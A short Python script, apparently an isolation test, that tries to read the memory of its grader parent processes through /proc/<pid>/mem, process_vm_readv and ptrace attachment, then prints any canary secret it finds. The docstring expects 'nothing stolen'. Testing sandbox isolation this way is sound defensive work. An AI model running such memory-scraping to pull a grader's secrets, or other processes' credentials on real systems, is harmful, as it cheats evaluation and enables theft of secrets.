"""Reads the memory of its ancestors: by ``/proc/<pid>/mem``, by ``process_vm_readv``, and as a debugger.

Expected: nothing stolen.
"""

import contextlib
import ctypes
import re

libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = [ctypes.c_long] * 4
ATTACH, DETACH = 16, 17


class Span(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]


def spans(pid):
    for line in open(f"/proc/{pid}/maps"):
        start, end = (int(number, 16) for number in line.split()[0].split("-"))
        if line.split()[1].startswith("rw") and end - start < 1 << 26:
            yield start, end - start


found = set()
for pid in graders():
    attached = libc.ptrace(ATTACH, pid, 0, 0) == 0
    with contextlib.suppress(OSError, OverflowError):
        with open(f"/proc/{pid}/mem", "rb", buffering=0) as memory:
            for start, size in spans(pid):
                memory.seek(start)
                found |= set(re.findall(CANARY.encode(), memory.read(size)))
    with contextlib.suppress(OSError):
        for start, size in spans(pid):
            buffer = ctypes.create_string_buffer(size)
            here, there = Span(ctypes.addressof(buffer), size), Span(start, size)
            if libc.process_vm_readv(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0) > 0:
                found |= set(re.findall(CANARY.encode(), buffer.raw))
    if attached:
        libc.ptrace(DETACH, pid, 0, 0)
print(*(secret.decode() for secret in found))
